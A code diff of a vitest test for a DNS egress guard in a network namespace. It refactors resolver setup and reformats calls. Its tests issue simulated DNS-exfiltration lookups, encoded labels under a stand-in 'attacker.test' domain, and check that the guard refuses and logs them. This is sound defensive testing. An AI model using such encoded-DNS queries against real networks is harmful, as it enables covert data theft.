@@ -5,9 +5,14 @@
  * Node's `dns.lookup`) get answers for allowed names and nothing for the rest, and the edge's upstream
  * (a recording DNS server on the edge namespace's loopback) proves the refused names never left the edge.
  */
-import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createTopology, type NodeService, repoFileUrl, type Topology } from '../../../../test/support/netns.js';
+import {
+  createTopology,
+  type NodeService,
+  repoFileUrl,
+  type Topology,
+} from '../../../../test/support/netns.js';
+import { useResolverIn } from './dns-kit.js';
 
 const EDGE_SCRIPT = `
 import { parsePolicy } from ${JSON.stringify(repoFileUrl('packages/policy/src/index.ts'))};
@@ -37,20 +42,18 @@ serveRequests(
 
 let topology: Topology;
 let edge: NodeService<{ dns: Array<{ host: string; port: number }> }>;
-let netnsDir: string;
+let restoreResolver: (() => void) | undefined;
 
 beforeAll(async () => {
   topology = await createTopology();
   edge = await topology.startNodeIn(topology.edge, topology.writeScript('dns-edge.mts', EDGE_SCRIPT), [
     `${topology.edge.address}:53`,
   ]);
-  netnsDir = `/etc/netns/${topology.client.name}`;
-  mkdirSync(netnsDir, { recursive: true });
-  writeFileSync(`${netnsDir}/resolv.conf`, `nameserver ${topology.edge.address}\noptions attempts:1 timeout:2\n`);
+  restoreResolver = useResolverIn(topology.client.name, topology.edge.address);
 });
 
 afterAll(async () => {
-  if (netnsDir) rmSync(netnsDir, { recursive: true, force: true });
+  restoreResolver?.();
   await topology?.destroy();
 });
 
@@ -67,11 +70,19 @@ describe('the DNS guard as the resolver of a network namespace', () => {
 
     const getent = await topology.exec(topology.client, 'getent', ['ahostsv4', 'api.allowed.test']);
     expect(getent.stdout).toContain('93.184.216.34');
-    const refused = await topology.exec(topology.client, 'getent', ['ahostsv4', 'bWFkZS11cA.leak.attacker.test']);
+    const refused = await topology.exec(topology.client, 'getent', [
+      'ahostsv4',
+      'bWFkZS11cA.leak.attacker.test',
+    ]);
     expect(refused.code).not.toBe(0);
     expect(refused.stdout).not.toContain('93.184.216.66');
 
-    const dig = await topology.exec(topology.client, 'dig', ['+tries=1', '+time=2', 'leak.attacker.test', 'A']);
+    const dig = await topology.exec(topology.client, 'dig', [
+      '+tries=1',
+      '+time=2',
+      'leak.attacker.test',
+      'A',
+    ]);
     expect(dig.stdout).toContain('status: REFUSED');
     expect(dig.stdout).toContain(`SERVER: ${topology.edge.address}#53`);
 
@@ -92,9 +103,11 @@ console.log(JSON.stringify({ ok: ok.address, bad }));`,
     expect(seen.length).toBeGreaterThan(0);
     expect(seen.every((n) => n.toLowerCase() === 'api.allowed.test')).toBe(true);
     const events = dnsEvents();
-    expect(events.some((e) => e['dns.question.name'] === 'c2vjcmv0.attacker.test' && e['egress.decision'] === 'denied')).toBe(
-      true,
-    );
+    expect(
+      events.some(
+        (e) => e['dns.question.name'] === 'c2vjcmv0.attacker.test' && e['egress.decision'] === 'denied',
+      ),
+    ).toBe(true);
     expect(events.every((e) => e['client.address'] === topology.client.address)).toBe(true);
   });
 });
